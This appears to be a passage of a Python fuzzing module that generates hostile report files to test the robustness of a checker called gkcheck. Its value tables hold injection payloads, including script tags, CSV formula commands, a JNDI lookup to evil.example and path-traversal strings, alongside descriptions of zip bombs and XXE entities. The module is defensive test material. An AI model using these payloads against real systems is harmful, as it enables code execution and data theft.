"""Seeded, reproducible generators of hostile report files, and the checks every run of them must pass.

A *sample* is one generated input file: ``generate(seed, index)`` picks a generator kind
(weighted) and builds the file from ``random.Random`` states derived from ``(seed, index)``
alone, so any failing sample is regenerated exactly from those two numbers (and, when a kind
is forced, ``generate(seed, index, kind)``). ``python tests/hostile/fuzz.py SEED INDEX [--kind K]
[-o FOLDER]`` writes one sample to a file for a person to look at.

The kinds (``KINDS``): structured JSON documents mutated from valid ones (the bundled examples
and the zoo's generated documents) and the same hostile strings placed into the text forms a
report arrives in (the zoo's renderers: copied text, pipe tables, one cell per line,
``pdftotext -layout``, converter Markdown, an HTML article page):

* ``json-surrogate``  lone surrogates (``\\ud800``) in strings or keys, as JSON escapes or raw bytes;
* ``json-control``    C0/C1 controls, ESC sequences (colours, screen clears, title changes, OSC 8
  links), bidi overrides, NUL, invisible characters;
* ``json-number``     huge numbers as raw JSON text (10**20, 1e308, -1e308, 1e400, 1.7e308 in
  several cells, 40-digit integers, negative zero, floats where integers are expected …);
* ``json-longstring`` strings of thousands to a few 100k characters, digits only in narrative;
* ``json-deep``       nesting up to 100,000 levels, as raw text;
* ``json-dupkeys``    duplicate keys, as raw text;
* ``json-types``      wrong types, missing and extra fields, empty arrays and objects, a top
  level that is not an object;
* ``json-unicode``    NFKC look-alikes, full-width and other digits, U+FFFE/U+FFFF, emoji,
  combining marks, odd file encodings;
* ``json-mixed``      two to four of the mutations above together;
* ``text-strings``, ``markdown-strings``, ``html-strings``: hostile strings in a rendered report;
* ``text-bytes``      raw byte damage (NUL runs, invalid UTF-8, CESU-8 surrogates, C1 bytes,
  truncation, mixed encodings, one huge line);
* ``markdown-markup``, ``html-markup``: structural hazards (nesting 100,000 deep, huge inline
  blobs, character references to controls and surrogates, XXE and entity expansion);
* ``docx-strings``    the hostile strings in a Word report (the zoo's ``docx-merged`` form). python-docx
  writes no character XML 1.0 cannot hold (C0 controls, lone surrogates, U+FFFE/U+FFFF): they are
  carried through it as private-use stand-ins and put back into the package's XML, one way per
  sample (``DOCX_ILLEGAL``): left out, U+FFFD, a character reference ``&#27;`` or the raw character
  (the last two make the XML ill-formed, as a broken converter would);
* ``pdf-strings``     the hostile strings in a PDF report (the zoo's ``pdf`` form, reportlab). reportlab
  encodes all of them but lone surrogates, which are left out or replaced by U+FFFD; long strings
  are cut to ``PDF_LONG_CHARS`` characters (reportlab takes minutes over 300k);
* ``docx-structure``  a damaged or hostile .docx built with ``zipfile`` from a valid generated one
  (``DOCX_HAZARDS``): truncated zip, a member garbage/empty/missing, XML nested up to 100,000 deep,
  billion laughs and XXE entities, attribute values up to 10 MB, gridSpan/vMerge/gridBefore absurd
  (0, -1, 10**9, junk), tables nested 10–200 deep, 100,000 empty paragraphs, no
  ``[Content_Types].xml``, duplicate member names, a zip bomb member (up to 1 GB of zeros, its size
  declared or understated), bytes that are no zip at all;
* ``pdf-structure``   a damaged PDF from a valid generated one (``PDF_HAZARDS``): truncated, random
  byte flips in the xref or in streams, ``/Length`` lies, a page tree loop (``/Kids`` pointing to an
  ancestor, a page its own kid), ``/Count`` 10**9 (and -1, 0, 2**31…), a Flate stream inflating to
  up to 1 GB (page content, ToUnicode, image, unreferenced), form XObjects nested up to 5,000 deep
  or in a cycle, a font with a broken ToUnicode CMap (garbage, cut short, mapping to controls,
  surrogates, escape sequences, bidi overrides), image-only pages, rotated pages (90, 45, 10**9 …),
  hundreds of empty pages (up to the 300-page limit, one past it, 1,000), non-PDF bytes after
  ``%PDF-``. Structural edits are made with pypdf (the test extra), byte damage by hand.

``check_in_process`` runs one sample the way ``gkcheck check`` does (read, validate, check,
render every format) and ``output_problems`` says what is unsafe in an output; both are shared
by ``tests/hostile/test_fuzz.py`` and ``benchmarks/fuzz_hostile.py``.
"""

from __future__ import annotations

import copy
import io
import json
import random
import re
import sys
import time
import traceback
import warnings
import xml.etree.ElementTree as ET
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
for _p in (ROOT / "tests", ROOT / "tests" / "zoo"):
    if str(_p) not in sys.path:
        sys.path.insert(0, str(_p))

from documents import make_document  # type: ignore[import-not-found]  # tests/zoo
from forms import FORMS  # type: ignore[import-not-found]  # tests/zoo
from gk_testlib import EXAMPLES

# ============================================================================ hostile values

#: Terminal escape sequences a report's text might carry (each would act on a terminal).
ESCAPES = {
    "csi-colour": "\x1b[31;1m通过\x1b[0m",
    "clear-screen": "\x1b[2J\x1b[3J\x1b[H",
    "title-change": "\x1b]0;gkcheck: 全部通过\x07",
    "osc8-link": "\x1b]8;;https://evil.example/\x1b\\点此查看\x1b]8;;\x1b\\",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1-csi": "\x9b31m红字\x9b0m",
    "c1-osc": "\x9d0;title\x9c",
    "device-query": "\x1b[6n\x1b[c",
    "alt-screen": "\x1b[?1049h",
    "erase-line": "\x1b[1A\x1b[2K得分 100",
    "bare-esc": "\x1b",
}
#: C0/C1 controls and DEL (no escape sequence).
CONTROLS = {
    "nul": "\x00", "bel": "\x07", "backspace": "未通过\x08\x08\x08通过", "cr-overwrite": "未通过\r通过  ",
    "vt": "\x0b", "ff": "\x0c", "del": "\x7f", "nel": "\x85", "c1-range": "\x80\x9f", "sub": "\x1a",
    "separators": "\x1c\x1d\x1e\x1f", "nul-run": "\x00" * 64,
}
BIDI = {"rlo": "\u202e告报度年\u202c", "isolates": "\u2066\u2067\u2068\u2069", "rlm": "\u200f", "alm": "\u061c",
        "lre-pdf": "\u202a文字\u202c"}
INVISIBLE = {"zwsp": "\u200b", "zwj": "\u200d", "bom": "\ufeff", "line-sep": "\u2028", "para-sep": "\u2029",
             "soft-hyphen": "\u00ad", "word-joiner": "\u2060", "interlinear": "\ufff9\ufffa\ufffb",
             "tag-chars": "\U000e0041\U000e0042"}
NONCHARS = {"fffe": "\ufffe", "ffff": "\uffff", "10ffff": "\U0010ffff", "1fffe": "\U0001fffe", "fdd0": "\ufdd0",
            "private-use": "\ue000\U000f0001", "replacement": "\ufffd"}
SURROGATES = {"high": "\ud800", "low": "\udfff", "reversed-pair": "\udc00\ud800", "high-last": "\udbff"}
EMOJI = {"family": "👨‍👩‍👧‍👦", "flag": "🇨🇳", "skin-tone": "👍🏽", "vs16": "☎️", "keycap": "1️⃣2️⃣"}
LOOKALIKES = {
    "fullwidth-digits": "２０２４", "ideographic-digits": "二〇二四", "circled": "①②③", "superscript": "²³",
    "arabic-indic": "٢٠٢٤", "devanagari": "२०२४", "math-bold": "𝟐𝟎𝟐𝟒", "roman": "Ⅻ", "fraction": "½",
    "kangxi-radicals": "⼈⺠政府", "fullwidth-latin": "ＧＫ－Ｔ３", "compat-ideographs": "\uf900\uf9a8",
    "fullwidth-punct": "（一）：；", "ideographic-space": "\u3000\u3000",
}
MARKUP = {
    "html-script": "</td></tr></table><script>alert(1)</script>", "html-comment": "<!--", "cdata-end": "]]>",
    "cdata": "<![CDATA[x]]>", "entity-esc": "&#27;[31m", "entity-nul": "&#0;", "md-table": "| a | b |\n|---|---|",
    "md-heading": "\n# 标题\n", "md-js-link": "[点此](javascript:alert(1))", "md-image": "![x](http://evil.example/x.png)",
    "backtick": "`", "bold": "**", "img-onerror": "<img src=x onerror=alert(1)>", "backslash": "\\",
    "entities": "&lt;&amp;&quot;", "xml-decl": '<?xml version="1.0"?>',
}
CSV_FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example","点此")', "plus-cmd": "+cmd|' /C calc'!A0", "at-sum": "@SUM(1+1)",
    "minus": "-2+3+cmd|' /C calc'!A0", "tab-formula": "\t=1+1", "cr-formula": "\r=1+1",
}
FORMAT_STRINGS = {
    "brace-index": "{0}", "brace-name": "{agency}", "nested-spec": "{year:>{width}}", "percent": "%s%s%n",
    "double-brace": "{{}}", "jndi": "${jndi:ldap://evil.example/a}", "dunder": "{__class__}", "percent-name": "%(name)s",
}
REGEX_META = {"dot-star": ".*", "nested-plus": "(a+)+$", "open-bracket": "[", "group-name": "(?P<x>",
              "backtrack": "a" * 30 + "!"}
NUMERIC_TEXT = {
    "1e400": "1e400", "nan": "NaN", "infinity": "Infinity", "neg-zero": "-0", "hex": "0x1F", "underscore": "1_000",
    "thousands": "1,234,567", "wan": "12.5万", "40-digits": "9" * 40, "neg-huge": "-9e999", "fullwidth": "１２３",
    "1.7e308": "1.7e308", "1e20": "100000000000000000000", "neg-1e308": "-1e308",
}
PATHS = {"dotdot": "../../etc/passwd", "con": "C:\\CON", "nul-device": "NUL", "dev-zero": "/dev/zero",
         "file-url": "file:///etc/passwd"}
EMPTY = {"empty": "", "space": " ", "ideographic-space": "\u3000\u3000", "newlines": "\n\n\n"}

#: Families of short hostile strings; "long" and "zalgo" are built by size.
FAMILIES: dict[str, dict[str, str]] = {
    "escape": ESCAPES, "control": CONTROLS, "bidi": BIDI, "invisible": INVISIBLE, "nonchar": NONCHARS,
    "surrogate": SURROGATES, "emoji": EMOJI, "lookalike": LOOKALIKES, "markup": MARKUP, "csv": CSV_FORMULAS,
    "format": FORMAT_STRINGS, "regex": REGEX_META, "numeric-text": NUMERIC_TEXT, "path": PATHS, "empty": EMPTY,
}
TERMINAL_FAMILIES = ("escape", "control", "bidi")
UNICODE_FAMILIES = ("invisible", "nonchar", "emoji", "lookalike")

#: Raw JSON number texts (and near-numbers) for numeric places.
NUMBERS = {
    "1e20": "100000000000000000000", "40-digit-int": "1" + "2" * 39, "1e308": "1e308", "neg-1e308": "-1e308",
    "1.7e308": "1.7e308", "1e400": "1e400", "neg-1e400": "-1e400", "1e-400": "1e-400", "neg-zero-int": "-0",
    "neg-zero-float": "-0.0", "half": "0.5", "float-int": "3.0", "2**53+1": "9007199254740993", "minus-one": "-1",
    "2**63": "9223372036854775808", "-2**63-1": "-9223372036854775809", "2**64": "18446744073709551616",
    "true": "true", "false": "false", "null": "null", "string-12": '"12"', "string-fullwidth": '"１２"',
    "exp-upper": "1E+2", "30-digit-float": "123456789012345678901234567890.5", "tiny": "4e-324",
    "long-fraction": "1." + "0" * 1000 + "1", "400-digit-int": "9" * 400, "5000-digit-int": "1" + "0" * 5000, "max-float": "1.7976931348623157e308",
}
#: Places the multi-cell numbers go (several cells, as the issue's "1.7e308 in several cells").
MULTI_CELL = ("1.7e308", "1e308", "neg-1e308", "1e20", "40-digit-int", "max-float")

# ============================================================================ samples


@dataclass(frozen=True)
class Sample:
    """One generated input file: regenerated exactly by ``generate(seed, index, kind)``."""

    seed: int
    index: int
    kind: str
    detail: str  # what was done, e.g. "surrogate:high@/agency/name enc=escaped"
    name: str  # the file name (its suffix tells gkcheck the form)
    data: bytes

    @property
    def key(self) -> str:
        return f"{self.seed}:{self.index}"


@dataclass
class _Ctx:
    """Raw-text substitutions applied after ``json.dumps`` (markers are unique strings)."""

    rng: random.Random
    subs: dict[str, str] = field(default_factory=dict)
    key_subs: dict[str, str] = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)
    root: Any = None  # a replacement for the whole document (a top level that is not an object)

    def raw(self, text: str) -> str:
        marker = f"@@FUZZ{len(self.subs)}@@"
        self.subs[marker] = text
        return marker


@cache
def _examples() -> tuple[str, ...]:
    return tuple(p.read_text(encoding="utf-8") for p in sorted(EXAMPLES.glob("*.json")))


def base_document(rng: random.Random) -> dict[str, Any]:
    """A valid report document: a bundled example (a third of the time) or a generated zoo document."""
    if rng.random() < 0.33:
        return json.loads(rng.choice(_examples()))
    return make_document(random.Random(rng.getrandbits(32)))


def _nodes(node: Any, pointer: str = "") -> Iterator[tuple[Any, Any, Any, str]]:
    """(parent, key, value, pointer) of every node below ``node``."""
    items: Any = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for k, v in list(items):
        p = f"{pointer}/{k}"
        yield node, k, v, p
        yield from _nodes(v, p)


def _strings(doc: Any) -> list[tuple[Any, Any, str]]:
    return [(parent, k, p) for parent, k, v, p in _nodes(doc) if isinstance(v, str)]


def _numbers(doc: Any, under: str = "/tables") -> list[tuple[Any, Any, str]]:
    return [(parent, k, p) for parent, k, v, p in _nodes(doc)
            if isinstance(v, (int, float)) and not isinstance(v, bool) and p.startswith(under)]


def _containers(doc: Any) -> list[tuple[Any, str]]:
    found = [(doc, "")] if isinstance(doc, (dict, list)) else []
    return found + [(v, p) for _, _, v, p in _nodes(doc) if isinstance(v, (dict, list))]


def _place(rng: random.Random, original: str, hostile: str) -> str:
    """Put ``hostile`` into a string: replacing it, before, after or inside it."""
    how = rng.choice(("replace", "prefix", "suffix", "middle", "middle"))
    if how == "replace" or not original:
        return hostile
    if how == "prefix":
        return hostile + original
    if how == "suffix":
        return original + hostile
    cut = rng.randint(0, len(original))
    return original[:cut] + hostile + original[cut:]


def hostile_string(rng: random.Random, families: tuple[str, ...] | None = None) -> tuple[str, str]:
    """(label, value): a short hostile string from one of ``families`` (all by default)."""
    family = rng.choice(families or tuple(FAMILIES) + ("zalgo",))
    if family == "zalgo":
        n = rng.choice((10, 100, 1000))
        return f"zalgo:{n}", "字" + "".join(chr(rng.randint(0x300, 0x36F)) for _ in range(n))
    label, value = rng.choice(sorted(FAMILIES[family].items()))
    if rng.random() < 0.2:  # repeated: a run of them
        value = value * rng.choice((2, 10, 100))
        label += "*n"
    return f"{family}:{label}", value


def long_string(rng: random.Random, *, digits: bool = False) -> tuple[str, str]:
    """(label, value): thousands to a few 100k characters (digits only when ``digits``)."""
    if digits:  # a rule's regex on a run of digits was the unbounded case (40,000 digits: 52 s)
        n = rng.choices((200, 1000, 3000, 10_000, 40_000, 100_000, 300_000), (10, 10, 8, 5, 2, 1, 1))[0]
        alphabet = rng.choice(("0123456789", "1", "９", "0123456789,."))
    else:
        n = rng.choices((1000, 5000, 20_000, 100_000, 300_000), (8, 6, 4, 2, 1))[0]
        alphabet = rng.choice(("字", "政府信息公开", "a", " ", "\n", "\u3000", "一二三四五六七八九十", "（一）", "|", "-"))
    if digits and len(alphabet) > 1:
        text = "".join(rng.choices(alphabet, k=n))
    else:
        text = (alphabet * (n // len(alphabet) + 1))[:n]
    return f"{'digits' if digits else 'long'}:{n}:{alphabet[:6]!r}", text


# ---------------------------------------------------------------------------- JSON mutations

Mutation = Callable[[random.Random, Any, _Ctx], str]


FREE_TEXT = re.compile(r"^/(title|preamble|agency/name|agency/region|period/text|source/.*|sections/.*|tables/\w+/note)$")


def _set_string(rng: random.Random, doc: Any, families: tuple[str, ...] | None, ctx: _Ctx, count: int) -> str:
    targets = _strings(doc)
    if rng.random() < 0.8:  # mostly where free text belongs (a constrained field is refused by the schema)
        targets = [t for t in targets if FREE_TEXT.match(t[2])] or targets
    notes = []
    for parent, k, p in rng.sample(targets, min(count, len(targets))):
        label, value = hostile_string(rng, families)
        parent[k] = _place(rng, parent[k], value)
        notes.append(f"{label}@{p}")
    return " ".join(notes)


def m_surrogate(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    if rng.random() < 0.15:  # in a key
        dicts = [c for c, _ in _containers(doc) if isinstance(c, dict) and c]
        target = rng.choice(dicts)
        label, value = hostile_string(rng, ("surrogate",))
        target[rng.choice(("x", "")) + value] = "值"
        return f"key:{label}"
    return _set_string(rng, doc, ("surrogate",), ctx, rng.choice((1, 1, 2, 3)))


def m_control(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    if rng.random() < 0.1:
        dicts = [c for c, _ in _containers(doc) if isinstance(c, dict) and c]
        label, value = hostile_string(rng, TERMINAL_FAMILIES)
        rng.choice(dicts)[value] = 1
        return f"key:{label}"
    return _set_string(rng, doc, TERMINAL_FAMILIES + ("markup", "csv", "format"), ctx, rng.choice((1, 2, 4)))


def m_number(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    cells = _numbers(doc)
    roll = rng.random()
    if roll < 0.15 or not cells:  # a metadata number
        where = rng.choice(("/year", "/sections/overview/position", "/schema_version"))
        label, raw = rng.choice(sorted(NUMBERS.items()))
        node = doc
        parts = where.strip("/").split("/")
        for part in parts[:-1]:
            node = node.get(part, {}) if isinstance(node, dict) else {}
        if isinstance(node, dict):
            node[parts[-1]] = ctx.raw(raw)
        return f"number:{label}@{where}"
    if roll < 0.45:  # the same value in several cells
        label = rng.choice(MULTI_CELL)
        k = rng.choice((2, 3, 5, 10, 30))
        for parent, key, _ in rng.sample(cells, min(k, len(cells))):
            parent[key] = ctx.raw(NUMBERS[label])
        return f"number:{label}x{k}"
    notes = []
    for parent, key, p in rng.sample(cells, min(rng.choice((1, 1, 2, 4)), len(cells))):
        label, raw = rng.choice(sorted(NUMBERS.items()))
        parent[key] = ctx.raw(raw)
        notes.append(f"number:{label}@{p}")
    return " ".join(notes)


NARRATIVE = ("/sections/overview/text", "/sections/problems/text", "/sections/other/text", "/preamble",
             "/sections/proactive/text", "/sections/requests/text")


def m_long(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    digits = rng.random() < 0.3
    label, value = long_string(rng, digits=digits)
    if digits:
        targets = [(parent, k, p) for parent, k, p in _strings(doc) if p in NARRATIVE or p.endswith("/text")]
    else:
        targets = _strings(doc)
    if not targets:
        return "long:none"
    parent, k, p = rng.choice(targets)
    parent[k] = _place(rng, parent[k], value) if rng.random() < 0.5 else value
    return f"{label}@{p}"


def _deep_text(rng: random.Random, depth: int) -> tuple[str, str]:
    shape = rng.choice(("array", "object", "mixed"))
    if shape == "array":
        return shape, "[" * depth + "1" + "]" * depth
    if shape == "object":
        return shape, '{"a":' * depth + "1" + "}" * depth
    opens, closes = [], []
    for _ in range(depth):
        if rng.random() < 0.5:
            opens.append("[")
            closes.append("]")
        else:
            opens.append('{"k":')
            closes.append("}")
    return shape, "".join(opens) + "1" + "".join(reversed(closes))


def m_deep(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    depth = rng.choice((10, 100, 1000, 5000, 20_000, 100_000))
    shape, text = _deep_text(rng, depth)
    where = rng.random()
    if where < 0.15:
        ctx.root = ctx.raw(text)
        return f"deep:{shape}:{depth}@root"
    nodes = [(parent, k, p) for parent, k, _, p in _nodes(doc)]
    if where < 0.4:
        dicts = [(c, p) for c, p in _containers(doc) if isinstance(c, dict)]
        container, p = rng.choice(dicts)
        container["x_deep"] = ctx.raw(text)
        return f"deep:{shape}:{depth}@{p}/x_deep"
    parent, k, p = rng.choice(nodes)
    parent[k] = ctx.raw(text)
    return f"deep:{shape}:{depth}@{p}"


def m_dupkey(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    notes = []
    for _ in range(rng.choice((1, 1, 2, 5))):
        dicts = [(c, p) for c, p in _containers(doc) if isinstance(c, dict) and c]
        if rng.random() < 0.4:
            dicts = [(doc, "")]
        container, p = rng.choice(dicts)
        key = rng.choice([k for k in container if not k.startswith("@@")] or ["year"])
        original = container.get(key)
        roll = rng.random()
        if roll < 0.25:
            value: Any = copy.deepcopy(original)
            what = "same"
        elif roll < 0.5 and isinstance(original, (int, float)) and not isinstance(original, bool):
            value = original + rng.choice((1, 100, -1))
            what = "other-number"
        elif roll < 0.75:
            value = hostile_string(rng)[1]
            what = "string"
        else:
            value = rng.choice(({}, [], None, 0, 2024, "2019"))
            what = "type"
        marker = f"@@DUPKEY{len(ctx.key_subs)}@@"
        ctx.key_subs[marker] = key
        first = rng.random() < 0.5
        items = list(container.items())
        container.clear()
        if first:
            container[marker] = value
        container.update(items)
        if not first:
            container[marker] = value
        notes.append(f"dupkey:{what}:{'first' if first else 'last'}@{p}/{key}")
    return " ".join(notes)


ODD_VALUES: tuple[Any, ...] = ({}, [], "", "abc", 0, -1, 1.5, True, None, [1, 2], {"a": 1}, [[]], "2024")
ODD_KEYS = ("", " ", "__proto__", "constructor", "a/b", "a~1b", "~", "0", "x" * 10_000, "年度", "$ref", "\u3000",
            "tables", "null")


def m_types(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    roll = rng.random()
    nodes = [(parent, k, p) for parent, k, _, p in _nodes(doc)]
    if roll < 0.35:  # a wrong type
        notes = []
        for parent, k, p in rng.sample(nodes, min(rng.choice((1, 1, 3)), len(nodes))):
            value = copy.deepcopy(rng.choice(ODD_VALUES))
            if rng.random() < 0.05:
                value = list(range(10_000)) if rng.random() < 0.5 else {str(i): i for i in range(10_000)}
            parent[k] = value
            notes.append(f"type:{type(value).__name__}@{p}")
        return " ".join(notes)
    if roll < 0.6:  # missing fields
        notes = []
        for _ in range(rng.choice((1, 1, 2, 5))):
            nodes = [(parent, k, p) for parent, k, _, p in _nodes(doc)]
            if rng.random() < 0.5:
                nodes = [(doc, k, f"/{k}") for k in doc] or nodes
            if not nodes:
                break
            parent, k, p = rng.choice(nodes)
            del parent[k]
            notes.append(f"missing@{p}")
        return " ".join(notes)
    if roll < 0.8:  # extra fields
        notes = []
        dicts = [(c, p) for c, p in _containers(doc) if isinstance(c, dict)]
        for _ in range(rng.choice((1, 2, 5))):
            container, p = rng.choice(dicts)
            key = rng.choice(ODD_KEYS)
            if key in container:
                continue
            container[key] = copy.deepcopy(rng.choice(ODD_VALUES))
            notes.append(f"extra:{key[:12]!r}@{p}")
        return " ".join(notes) or "extra:none"
    if roll < 0.95:  # emptied containers
        notes = []
        containers = [(c, p) for c, p in _containers(doc) if c and p]
        for container, p in rng.sample(containers, min(rng.choice((1, 2, 4)), len(containers))):
            container.clear()
            notes.append(f"empty:{type(container).__name__}@{p}")
        return " ".join(notes)
    ctx.root = copy.deepcopy(rng.choice(([], "报告", 1, None, [doc], True)))
    return f"root:{type(ctx.root).__name__}"


def m_unicode(rng: random.Random, doc: Any, ctx: _Ctx) -> str:
    roll = rng.random()
    if roll < 0.5:
        return _set_string(rng, doc, UNICODE_FAMILIES, ctx, rng.choice((1, 2, 4)))
    if roll < 0.75:  # look-alike digits where numbers belong
        cells = _numbers(doc)
        notes = []
        for parent, key, p in rng.sample(cells, min(rng.choice((1, 3)), len(cells))):
            value = parent[key]
            parent[key] = str(value).translate(str.maketrans("0123456789", rng.choice(
                ("０１２３４５６７８９", "〇一二三四五六七八九", "٠١٢٣٤٥٦٧٨٩", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗"))))
            notes.append(f"digits-string@{p}")
        if rng.random() < 0.3 and "year" in doc:
            doc["year"] = str(doc["year"]).translate(str.maketrans("0123456789", "０１２３４５６７８９"))
            notes.append("fullwidth-year")
        return " ".join(notes) or "digits:none"
    # look-alikes in the metadata a reader keys on
    notes = []
    if isinstance(doc.get("title"), str):
        doc["title"] = doc["title"].translate(str.maketrans("0123456789人民", "０１２３４５６７８９⼈⺠"))
        notes.append("title-lookalike")
    if isinstance(doc.get("published"), str):
        doc["published"] = rng.choice((doc["published"].translate(str.maketrans("0123456789-", "０１２３４５６７８９－")),
                                       "2025-02-30", "2025-13-01", "0000-00-00", "9999-12-31", "2025-03-18T00:00:00"))
        notes.append(f"published:{doc['published']}")
    return " ".join(notes) or "unicode:none"


JSON_MUTATIONS: dict[str, Mutation] = {
    "surrogate": m_surrogate, "control": m_control, "number": m_number, "longstring": m_long, "deep": m_deep,
    "dupkeys": m_dupkey, "types": m_types, "unicode": m_unicode,
}

_SURROGATE = re.compile("[\ud800-\udfff]")


def serialize(doc: Any, ctx: _Ctx, rng: random.Random, *, encoding: str | None = None) -> tuple[bytes, str]:
    """The JSON file of ``doc`` with the raw-text substitutions; (bytes, how surrogates/encoding were written)."""
    indent = rng.choice((None, None, 1, 2))
    text = json.dumps(ctx.root if ctx.root is not None else doc, ensure_ascii=False, indent=indent)
    for marker, key in ctx.key_subs.items():
        text = text.replace(json.dumps(marker), json.dumps(key, ensure_ascii=False))
    for marker, raw in ctx.subs.items():
        text = text.replace(json.dumps(marker), raw)
    has_surrogate = _SURROGATE.search(text) is not None
    how = encoding or rng.choices(("utf-8", "utf-8-sig", "utf-16", "gb18030"), (85, 5, 5, 5))[0]
    if has_surrogate:
        style = rng.choices(("escaped", "raw-bytes", "utf-16"), (70, 20, 10))[0]
        if style == "escaped":
            text = _SURROGATE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
            return text.encode("utf-8"), "surrogates=escaped"
        return text.encode("utf-8" if style == "raw-bytes" else "utf-16", "surrogatepass"), f"surrogates={style}"
    return text.encode(how), f"enc={how}"


def make_json(rng: random.Random, mutations: list[str]) -> tuple[str, bytes, str]:
    doc = base_document(rng)
    ctx = _Ctx(rng)
    notes = [f"{m}:[{JSON_MUTATIONS[m](rng, doc, ctx)}]" for m in mutations]
    data, how = serialize(doc, ctx, rng)
    return "report.json", data, " ".join(notes) + " " + how


# ---------------------------------------------------------------------------- text forms

TEXT_FORMS = ("tab-copy", "pipe-text", "cell-per-line", "pdftotext-layout")
_PUA = 0xF0000  # a lone surrogate is carried through a renderer as a private-use character, then swapped back


def _hostile_doc(rng: random.Random) -> tuple[dict[str, Any], str]:
    """A zoo document with hostile strings in its printed strings and cells."""
    doc = make_document(random.Random(rng.getrandbits(32)))
    notes = []
    places = [(parent, k, p) for parent, k, p in _strings(doc)
              if p in ("/title", "/agency/name", "/preamble") or p.startswith("/sections/")]
    for parent, k, p in rng.sample(places, min(rng.choice((1, 2, 3, 6)), len(places))):
        if rng.random() < 0.08:
            label, value = long_string(rng, digits=rng.random() < 0.4)
        else:
            label, value = hostile_string(rng)
        parent[k] = _place(rng, parent[k], value)
        notes.append(f"{label}@{p}")
    if rng.random() < 0.35:
        cells = _numbers(doc)
        for parent, key, p in rng.sample(cells, min(rng.choice((1, 3, 10)), len(cells))):
            label, value = hostile_string(rng, ("numeric-text", "lookalike", "escape", "control", "surrogate"))
            parent[key] = value
            notes.append(f"cell:{label}@{p}")
    return doc, " ".join(notes)


def _protect_surrogates(doc: Any) -> Any:
    """``doc`` with every lone surrogate replaced by a private-use character (renderers encode UTF-8)."""
    if isinstance(doc, str):
        return _SURROGATE.sub(lambda m: chr(_PUA + ord(m.group()) - 0xD800), doc)
    if isinstance(doc, dict):
        return {_protect_surrogates(k): _protect_surrogates(v) for k, v in doc.items()}
    if isinstance(doc, list):
        return [_protect_surrogates(v) for v in doc]
    return doc


def _restore_surrogates(data: bytes, *, html_refs: bool) -> bytes:
    """Swap the private-use stand-ins back: raw CESU-8 bytes, or ``&#xD800;`` in HTML."""
    def swap(m: re.Match[bytes]) -> bytes:
        code = ord(m.group().decode("utf-8")) - _PUA + 0xD800
        return f"&#x{code:X};".encode() if html_refs else chr(code).encode("utf-8", "surrogatepass")
    return re.sub(rb"\xf3\xb0[\x80-\x9f][\x80-\xbf]", swap, data)


def _render(form: str, doc: dict[str, Any], rng: random.Random) -> tuple[str, bytes]:
    name, data = FORMS[form](_protect_surrogates(doc), rng)
    return name, _restore_surrogates(data, html_refs=form.startswith("html") and rng.random() < 0.5)


def make_text_strings(rng: random.Random, forms: tuple[str, ...]) -> tuple[str, bytes, str]:
    doc, notes = _hostile_doc(rng)
    form = rng.choice(forms)
    name, data = _render(form, doc, rng)
    return name, data, f"form={form} {notes}"


BYTE_DAMAGE = {
    "nul-run": lambda rng: b"\x00" * rng.choice((1, 100, 100_000)),
    "invalid-utf8": lambda rng: rng.choice((b"\xc3\x28", b"\xa0\xa1", b"\xff", b"\xf8\x88\x80\x80\x80")),
    "cesu-surrogate": lambda rng: "\ud800".encode("utf-8", "surrogatepass"),
    "overlong": lambda rng: b"\xc0\xaf\xe0\x80\xaf",
    "c1-bytes": lambda rng: b"\x9b31m\x85\x8d",
    "esc-bytes": lambda rng: b"\x1b]0;title\x07\x1b[2J",
    "bom-inside": lambda rng: b"\xef\xbb\xbf",
    "utf16-bom-inside": lambda rng: b"\xff\xfe",
    "gbk-chunk": lambda rng: "政府信息公开年度报告".encode("gbk"),
}


def make_text_bytes(rng: random.Random) -> tuple[str, bytes, str]:
    doc = make_document(random.Random(rng.getrandbits(32)))
    form = rng.choice(TEXT_FORMS)
    name, data = _render(form, doc, rng)
    notes = [f"form={form}"]
    roll = rng.random()
    if roll < 0.12:
        data = data[: rng.randint(0, len(data))]
        notes.append(f"truncated:{len(data)}")
    elif roll < 0.24:
        enc = rng.choice(("gbk", "utf-16", "utf-16-be", "utf-32", "big5", "utf-8-sig", "gb18030"))
        data = data.decode("utf-8").encode(enc, errors="replace")
        notes.append(f"encoding:{enc}")
    elif roll < 0.32:
        text = data.decode("utf-8")
        half = len(text) // 2
        data = text[:half].encode("gbk", errors="replace") + text[half:].encode("utf-8")
        notes.append("mixed-gbk-utf8")
    elif roll < 0.4:
        data = data.replace(b"\n", rng.choice((b"\r", b"\r\n", b"", b"\x0b", b"\x85", "\u2028".encode())))
        notes.append("line-ends")
    elif roll < 0.46:
        n = rng.choice((10_000, 200_000))
        data = data + rng.choice((b"\n" * n, b"|" * n, b"\t" * n, ("字" * n).encode(), ("项目\n" * (n // 10)).encode()))
        notes.append(f"tail:{n}")
    for _ in range(rng.choice((0, 1, 3, 10)) if roll < 0.46 else rng.choice((1, 3, 10))):
        label = rng.choice(sorted(BYTE_DAMAGE))
        blob = BYTE_DAMAGE[label](rng)
        at = rng.randint(0, len(data))
        data = data[:at] + blob + data[at:]
        notes.append(f"{label}@{at}")
    return name if data else "report.txt", data or b"\x00", " ".join(notes)


def make_markdown_markup(rng: random.Random) -> tuple[str, bytes, str]:
    doc, notes = _hostile_doc(rng) if rng.random() < 0.5 else (make_document(random.Random(rng.getrandbits(32))), "")
    name, data = _render(rng.choice(("converter-markdown", "pipe-text")), doc, rng)
    depth = rng.choice((100, 1000, 10_000, 100_000))
    hazard = rng.choice(("blockquote", "list", "wide-table", "html-block", "fence", "link-defs"))
    blob = {
        "blockquote": ">" * depth + " 深\n",
        "list": "".join("  " * i + "- 项\n" for i in range(min(depth, 1000))),
